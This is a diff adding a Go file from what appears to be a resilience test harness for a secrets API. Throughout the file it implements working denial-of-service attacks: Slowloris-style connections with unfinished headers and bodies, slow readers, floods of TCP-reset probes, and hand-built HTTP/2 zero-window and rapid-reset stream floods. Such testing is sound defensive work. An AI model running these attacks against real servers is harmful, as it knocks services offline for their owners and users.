@@ -1,0 +1,195 @@
+package attack
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// connections are attacks with connections, most of them without a credential.
+func connections() []Attack {
+	return []Attack{
+		{"silent connections", func(ctx context.Context, t *Target) int { return t.hold(ctx, 1500, func(int) string { return "" }) }},
+		{"headers that never end", func(ctx context.Context, t *Target) int {
+			return t.hold(ctx, 500, func(int) string { return "GET /secrets/s HTTP/1.1\r\nHost: x\r\nX-A: " })
+		}},
+		{"bodies that never come, without a credential", func(ctx context.Context, t *Target) int {
+			return t.hold(ctx, 500, func(int) string { return head(t, "", 1<<20) })
+		}},
+		{"bodies that never end, with a credential", func(ctx context.Context, t *Target) int {
+			part := strings.Repeat("x", 1<<19)
+			return t.hold(ctx, 250, func(int) string { return head(t, hostileKey, 1<<20) + `{"data":{"a":"` + part })
+		}},
+		{"event streams", func(ctx context.Context, t *Target) int {
+			return t.hold(ctx, 1000, func(int) string {
+				return "GET /events HTTP/1.1\r\nHost: " + t.Addr + "\r\nX-API-Key: " + hostileKey + "\r\n\r\n"
+			})
+		}},
+		{"event streams about the honest caller's secrets", func(ctx context.Context, t *Target) int {
+			return t.hold(ctx, 200, func(i int) string {
+				return fmt.Sprintf("GET /events?path=mcp/%s/w%d HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\n\r\n", honestSubject, i%50, t.Addr, hostileKey)
+			})
+		}},
+		{"probes that are reset", resets},
+		{"HTTP/2 streams whose window stays shut", shutWindows},
+		{"HTTP/2 streams that are reset at once", rapidResets},
+	}
+}
+
+func head(t *Target, key string, length int) string {
+	h := fmt.Sprintf("PUT /secrets/b HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n", t.Addr, length)
+	if key != "" {
+		h += "X-API-Key: " + key + "\r\n"
+	}
+	return h + "\r\n"
+}
+
+// hold opens so many connections, sends a beginning on each and says nothing more.
+// A connection that is closed is opened again.
+func (t *Target) hold(ctx context.Context, n int, beginning func(i int) string) int {
+	opened := 0
+	var held []net.Conn
+	defer func() {
+		for _, c := range held {
+			_ = c.Close()
+		}
+	}()
+	for i := 0; ctx.Err() == nil && opened < 4*n; i++ {
+		if len(held) == n {
+			_ = held[0].Close()
+			held = held[1:]
+			pause(ctx, 10*time.Millisecond)
+		}
+		c, err := t.dial(ctx)
+		if err != nil {
+			pause(ctx, 10*time.Millisecond)
+			continue
+		}
+		_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
+		_, _ = io.WriteString(c, beginning(i)) // it may be refused
+		held, opened = append(held, c), opened+1
+	}
+	<-ctx.Done()
+	return opened
+}
+
+func (t *Target) dial(ctx context.Context) (net.Conn, error) {
+	d := net.Dialer{Timeout: time.Second}
+	return d.DialContext(ctx, "tcp", t.Addr)
+}
+
+func pause(ctx context.Context, d time.Duration) {
+	select {
+	case <-ctx.Done():
+	case <-time.After(d):
+	}
+}
+
+// slowReaders ask for a secret of almost a megabyte and read nothing of it.
+func slowReaders(ctx context.Context, t *Target) int {
+	return t.hold(ctx, 200, func(int) string {
+		return "GET /secrets/s HTTP/1.1\r\nHost: " + t.Addr + "\r\nX-API-Key: " + hostileKey + "\r\n\r\n"
+	})
+}
+
+// resets asks the probes and hangs up before the answer.
+func resets(ctx context.Context, t *Target) int {
+	n := 0
+	for ; ctx.Err() == nil && n < maxRequests; n++ {
+		c, err := t.dial(ctx)
+		if err != nil {
+			continue
+		}
+		_, _ = io.WriteString(c, "GET /readyz HTTP/1.1\r\nHost: "+t.Addr+"\r\n\r\n")
+		if tcp, ok := c.(*net.TCPConn); ok {
+			_ = tcp.SetLinger(0) // a reset, not an orderly end
+		}
+		_ = c.Close()
+		pause(ctx, 5*time.Millisecond)
+	}
+	return n
+}
+
+// shutWindows opens many streams on few HTTP/2 connections, each of which asks for
+// a document that may not be sent: the window is zero.
+func shutWindows(ctx context.Context, t *Target) int {
+	var wg sync.WaitGroup
+	counts := make([]int, 8)
+	for i := range counts {
+		wg.Go(func() { counts[i] = t.frames(ctx, 240, false) })
+	}
+	wg.Wait()
+	return sum(counts)
+}
+
+// rapidResets opens streams and resets each at once.
+func rapidResets(ctx context.Context, t *Target) int {
+	var wg sync.WaitGroup
+	counts := make([]int, 4)
+	for i := range counts {
+		wg.Go(func() {
+			for ctx.Err() == nil && counts[i] < maxRequests/4 {
+				counts[i] += t.frames(ctx, 1000, true)
+			}
+		})
+	}
+	wg.Wait()
+	return sum(counts)
+}
+
+func sum(counts []int) (n int) {
+	for _, c := range counts {
+		n += c
+	}
+	return n
+}
+
+// frames speaks HTTP/2 with prior knowledge (RFC 9113, section 3.3) by hand: it asks
+// for the document of all operations on so many streams, with a window of zero, and
+// resets each or waits for ctx.
+func (t *Target) frames(ctx context.Context, streams int, reset bool) int {
+	c, err := t.dial(ctx)
+	if err != nil {
+		pause(ctx, 50*time.Millisecond)
+		return 0
+	}
+	defer func() { _ = c.Close() }()
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	_, _ = io.WriteString(c, http2.ClientPreface)
+	f := http2.NewFramer(c, nil)
+	if f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
+		return 0
+	}
+	var block strings.Builder
+	e := hpack.NewEncoder(&block)
+	for _, h := range [][2]string{{":method", http.MethodGet}, {":scheme", "http"}, {":authority", t.Addr}, {":path", "/openapi.json"}} {
+		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
+	}
+	n := 0
+	for ; n < streams && ctx.Err() == nil; n++ {
+		id := uint32(2*n + 1)
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(block.String()), EndStream: true, EndHeaders: true})
+		if err == nil && reset {
+			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+		if err != nil {
+			break
+		}
+		block.Reset() // the table knows the fields now
+		for _, h := range [][2]string{{":method", http.MethodGet}, {":scheme", "http"}, {":authority", t.Addr}, {":path", "/openapi.json"}} {
+			_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
+		}
+	}
+	if !reset {
+		<-ctx.Done()
+	}
+	return n
+}
